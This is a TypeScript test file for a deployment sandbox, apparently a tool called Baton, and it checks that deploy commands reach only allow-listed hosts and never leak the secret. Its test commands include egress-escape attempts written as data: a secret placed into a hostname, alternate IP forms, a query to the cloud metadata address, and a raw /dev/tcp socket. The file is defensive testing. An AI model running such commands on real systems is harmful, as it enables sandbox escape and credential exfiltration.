import { createServer, type RequestListener, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest';
import { BATON_SANDBOX, type Deployments, failed, openDeployments, succeeded } from './testing/deployments.js';

const SECRET = 'S3cret-of-the-host';
const asked: string[] = [];
const servers: Server[] = [];

/** A server of this machine that notes what it is asked. */
async function open(name: string, answer: RequestListener): Promise<number> {
  const server = createServer((request, response) => {
    asked.push(`${name}: ${request.method} ${request.url} ${request.headers.authorization ?? ''}`.trim());
    answer(request, response);
  });
  servers.push(server);
  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve((server.address() as AddressInfo).port)));
}

let at: Deployments;
let tree: string;
let listed: string;
let other: string;
beforeAll(async () => {
  other = `localhost:${await open('other', (_, response) => void response.end('hunter2'))}`;
  listed = `localhost:${await open('listed', (request, response) => {
    request.resume();
    if (request.url === '/away') response.writeHead(302, { location: `http://${other}/` }).end();
    else request.once('end', () => response.end('taken\n'));
  })}`;
  const rules = [listed, other].map((host) => ({ host: 'localhost', port: Number(host.split(':')[1]) }));
  at = await openDeployments(
    inject('postgresUrl'),
    { BATON_DEPLOY_ENV: 'HOST_KEY', BATON_DEPLOY_HOSTS: rules.slice(0, 1), BATON_DEPLOY_OWN_NETWORK: rules },
    { HOST_KEY: SECRET },
  );
  tree = await at.version({ 'index.html': '<h1>Hello</h1>\n' });
});
afterAll(async () => {
  await at?.close();
  for (const server of servers) {
    server.closeAllConnections();
    server.close();
  }
});

describe.runIf(BATON_SANDBOX === 'bwrap')('a command that reaches hosts', () => {
  const deployBy = (command: string) => at.deploy({ tree, deploy: { command, hosts: [listed], env: ['HOST_KEY'] } });

  test('reaches the one that was approved through the way out, with what it was given, and nothing of it is kept', async () => {
    asked.length = 0;
    const { commandId, args, result } = await deployBy(
      `curl -sf -T index.html -H "Authorization: $HOST_KEY" http://${listed}/site
       node -e 'fetch("http://${listed}/by-node").then((r) => r.text()).then(console.log)'; env | grep -c -e DATABASE -e BATON_HOME`,
    );
    // grep found nothing, and says so.
    expect(failed(result.data).cause).toContain('exit code 1. It printed: taken\ntaken\n\n0');
    expect(asked).toEqual([`listed: PUT /site ${SECRET}`, 'listed: GET /by-node']);
    // Once, however often the task comes.
    await at.fixture.dispatch(commandId, 1, { arguments: args });
    expect(failed((await at.fixture.resultOf(commandId, 1)).data).cause).toContain('exit code 1');
    expect(asked).toHaveLength(2);
  });

  test('has on record what it reached, and what it asked for in vain without the secrets in it', async () => {
    const { result } = await deployBy(
      `curl -sf http://${listed}/; curl -s "http://$HOST_KEY.example/" >/dev/null; curl -s http://${other}/ >/dev/null; true`,
    );
    expect(succeeded(result.data)).toMatchObject({
      ...{ deployed: true, output: 'taken' },
      network: {
        hosts: [{ host: listed, connections: 1 }],
        refused: [
          { host: other, reason: 'it is not on the list of hosts' },
          { host: '[HOST_KEY].example:80', reason: 'it is not on the list of hosts' },
        ],
      },
    });
    expect(JSON.stringify(result.data).toLowerCase()).not.toContain(SECRET.toLowerCase());
  });

  test('reaches no other: by its name, its address in any form, a redirect, or a socket of its own', async () => {
    asked.length = 0;
    const port = other.split(':')[1];
    const { result } = await deployBy(
      `for host in localhost 127.0.0.1 2130706433 '[::1]'; do
         curl -sgfm 5 http://$host:${port}/; curl -sgfm 5 -p http://$host:${port}/
       done
       curl -sfLm 5 http://${listed}/away; curl -sfm 5 http://127.0.0.1:${listed.split(':')[1]}/; curl -sfm 5 http://169.254.169.254/
       unset http_proxy https_proxy HTTP_PROXY HTTPS_PROXY
       curl -sfm 5 http://${other}/; bash -c 'exec 3<>/dev/tcp/127.0.0.1/${port}' 2>/dev/null && echo ESCAPED
       getent hosts example.com && echo ESCAPED; true`,
    );
    expect(succeeded(result.data)).toMatchObject({ deployed: true, output: '' });
    expect(asked).toEqual(['listed: GET /away']);
  });

  test('says in its failure which host it was refused', async () => {
    const { result } = await deployBy(`curl -sf http://${other}/`);
    expect(failed(result.data)).toMatchObject({
      error: 'Baton.DeployFailed',
      cause: expect.stringContaining(`It asked for ${other}, which was refused: it is not on the list of hosts.`),
    });
  });
});

test('a host that the operator does not open is said before anything runs, and to who asks how it is deployed', async () => {
  const section = { command: 'true', hosts: [other, listed] };
  const { result } = await at.deploy({ tree, deploy: section });
  const problem = `The command wants to reach ${other}, which the operator does not open to deployments`;
  expect(failed(result.data)).toMatchObject({
    ...{ error: 'Baton.DeployFailed', retryable: false },
    cause: expect.stringContaining(problem),
  });
  const show = await at.fixture.send({ arguments: { show: true, deploy: section } });
  expect(succeeded((await at.fixture.resultOf(show)).data)).toMatchObject({
    deploy: { ...section, timeoutSeconds: 600, env: [], idempotent: false },
    problem: expect.stringContaining(problem),
  });
});

test.runIf(BATON_SANDBOX === 'bwrap')(
  'hosts of the base are reached where the person was shown them, and only then',
  async () => {
    const base = await at.version({
      '.baton/tools.yaml': `checks: [{ name: t, command: "true" }]\ndeploy: { command: "curl -sf http://${listed}/base", hosts: ["${listed}"] }\n`,
    });
    const { result: hidden } = await at.deploy({ tree, base });
    expect(failed(hidden.data)).toMatchObject({
      error: 'Baton.NotApproved',
      cause: expect.stringContaining(`reaches ${listed}, and who approved`),
    });
    const show = await at.fixture.send({ arguments: { show: true, base } });
    const { deploy, problem } = JSON.parse(JSON.stringify(succeeded((await at.fixture.resultOf(show)).data)));
    expect(problem).toBeNull();
    const { result } = await at.deploy({ tree, base }, { shown: { tree, base, deploy } });
    expect(succeeded(result.data)).toMatchObject({ deployed: true, network: { hosts: [{ host: listed }] } });
    const { result: less } = await at.deploy(
      { tree, base },
      { shown: { tree, base, deploy: { ...deploy, hosts: [] } } },
    );
    expect(failed(less.data)).toMatchObject({ error: 'Baton.NotApproved' });
  },
);
